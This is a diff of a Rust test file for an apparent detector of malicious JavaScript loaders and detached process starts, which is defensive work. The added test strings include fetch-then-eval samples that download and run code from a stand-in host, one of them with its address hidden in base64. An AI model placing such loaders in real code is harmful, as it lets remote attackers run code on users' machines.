@@ -120,8 +120,8 @@ fn property_names_and_object_keys_are_not_the_variable() {
 
 #[test]
 fn hostile_input_ends_quickly() {
-    // Thousands of chained bindings and unclosed brackets: bounded by the name cap,
-    // the rounds and the window.
+    // Thousands of chained bindings and unclosed brackets: bounded by the budget of
+    // reading per byte.
     let mut code = String::from("let a0 = fetch(u);\n");
     for i in 1..5000 {
         code.push_str(&format!("let a{i} = a{} + (((;\n", i - 1));
@@ -212,6 +212,9 @@ fn the_response_beside_the_code_is_not_the_code() {
         "class A{request(req,res){const c=(src)=>new Function('l',src);res.end(c(tpl)(req))}}",
         // Two bundled modules each with a function `e`.
         "!function(){function e(t){return fetch(t)}window.f=e}();\n!function(){function e(t){return String(t)}Function('return '+e(x))()}();",
+        // Module loaders run what their user asks for, from the address passed in.
+        "System.instantiate = function (url, parent) {\n  return fetch(url).then(function (res) { return res.text(); }).then(function (source) { (0, eval)(source); });\n};",
+        "require.load = function (context, moduleName, url) {\n  var xhr = new XMLHttpRequest();\n  xhr.open('GET', url, true);\n  xhr.onreadystatechange = function () { exec(xhr.responseText); };\n};\nfunction exec() { eval(arguments[0]); }",
         // A wrapper evaluating its own template, called with a response elsewhere.
         "function render(tpl, data){return new Function('d', tpl)(data)}\nconst r=await fetch(u);\nrender(TEMPLATE, await r.json());",
     ] {
@@ -241,6 +244,10 @@ fn loaders_written_the_ways_attackers_write_them() {
         // A wrapper around the evaluator, called or handed to `.then`.
         "function run(s){eval(s)}\nfetch(u).then(r=>r.text()).then(run);",
         "function run(opts, s){new Function(s)()}\nconst r=await fetch(u);\nrun({}, await r.text());",
+        // A loader function given its address by the package itself.
+        "function load(url){fetch(url).then(r=>r.text()).then(eval)}\nload('https://cdn.example/p.js');",
+        "async function main(url){const r=await fetch(url);eval(await r.text())}\nmain(process.env.U);",
+        "const U=atob('aHR0cHM6Ly9jZG4uZXhhbXBsZS9w');\nasync function main(url){const r=await fetch(url);eval(await r.text())}\nmain(U);",
         // A callback handed by name.
         "function onRes(res){let d='';res.on('data',x=>d+=x);res.on('end',()=>eval(d))}\nhttps.get(u,onRes);",
     ] {
@@ -258,7 +265,7 @@ fn padding_does_not_switch_the_reading_off() {
     }
     code.push_str("eval(c);})();\n");
     assert!(run(&code).is_some());
-    // Bindings that overlap to exhaust a per-round budget.
+    // Bindings that overlap, to spend the budget before the loader is read.
     let code = format!(
         "var _=[{}];\nfetch(u).then(r=>r.text()).then(c=>eval(c));\n",
         "a=0,".repeat(400)
@@ -267,14 +274,28 @@ fn padding_does_not_switch_the_reading_off() {
 }
 
 #[test]
-fn what_runs_when_a_module_is_loaded() {
-    let code = "spawn(a);\nif (win) { spawn(b); }\n(async () => { spawn(c); })();\nsetTimeout(() => spawn(d), 10);\nfunction start() { spawn(e); }\nconst stop = () => { spawn(f); };\nmodule.exports = function () { spawn(g); };\nclass Daemon { run() { spawn(h); } }\n";
-    let offsets: Vec<usize> = ["(a)", "(b)", "(c)", "(d)", "(e)", "(f)", "(g)", "(h)"]
-        .iter()
-        .map(|s| code.find(s).unwrap())
-        .collect();
-    assert_eq!(
-        super::runs_on_load(code.as_bytes(), &offsets),
-        [true, true, true, true, false, false, false, false]
-    );
+fn detached_starts_that_run_when_a_module_is_loaded() {
+    let starts = |code: &str| {
+        let offsets: Vec<usize> = code.match_indices("detached").map(|(i, _)| i).collect();
+        super::starts_on_load(code.as_bytes(), &offsets)
+    };
+    for on_load in [
+        "spawn(a, [], { detached: true });",
+        "if (win) { spawn(b, [], { detached: true }); }",
+        "(async () => { fork(c, { detached: true }); })();",
+        "setTimeout(() => spawn(d, [], { detached: true }), 10);",
+    ] {
+        assert!(starts(on_load), "{on_load}");
+    }
+    for deferred in [
+        "function start() { spawn(e, [], { detached: true }); }",
+        "const stop = () => { spawn(f, [], { detached: true }); };",
+        "module.exports = function () { spawn(g, [], { detached: true }); };",
+        "class Daemon { run() { spawn(h, [], { detached: true }); } }",
+        // Documentation, and options kept for a function that is only defined.
+        "// spawn(cmd, args, { detached: true })\nmodule.exports = add;",
+        "const OPTIONS = { detached: true, stdio: 'ignore' };\nfunction start() { spawn(x, [], OPTIONS); }",
+    ] {
+        assert!(!starts(deferred), "{deferred}");
+    }
 }
